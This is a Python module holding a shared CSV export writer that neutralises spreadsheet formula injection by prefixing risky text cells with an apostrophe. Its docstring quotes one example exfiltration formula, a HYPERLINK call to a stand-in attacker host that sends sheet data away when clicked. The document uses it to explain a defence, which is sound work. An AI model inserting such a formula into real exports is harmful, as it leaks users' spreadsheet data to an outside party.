"""CSV for people to open in Excel or WPS: the one writer every export uses.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read
by spreadsheets as a formula (`=HYPERLINK("http://evil.example/?"&A1, ...)` sends the
sheet's data away when clicked). Such text cells get a leading `'`, which the
spreadsheet shows as text (OWASP, "CSV Injection"). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

from pydantic import BaseModel

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with text that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(
    rows: Iterable[BaseModel | dict[str, Any]],
    *,
    bom: bool = False,
    headers: Mapping[str, str] | None = None,
) -> str:
    """CSV with a header row; `bom` prefixes the UTF-8 BOM that Excel needs for Chinese.
    Columns holding objects or lists are left out. `headers` (field → header text)
    chooses the columns and their order and names them, e.g. in Chinese for Excel users;
    with `headers` the header row is written even when there are no rows."""
    dicts = [r.model_dump(mode="json") if isinstance(r, BaseModel) else r for r in rows]
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    # RFC 4180 line ends: the writer then quotes every cell holding a CR or an LF.
    writer = csv.writer(out, lineterminator="\r\n")
    if headers is not None:
        fields = list(headers)
        writer.writerow([safe_cell(headers[f]) for f in fields])
    elif not dicts:
        return out.getvalue()
    else:
        fields = [k for k, v in dicts[0].items() if not isinstance(v, dict | list)]
        writer.writerow([safe_cell(f) for f in fields])
    for row in dicts:
        writer.writerow([safe_cell(row.get(f)) for f in fields])
    return out.getvalue()
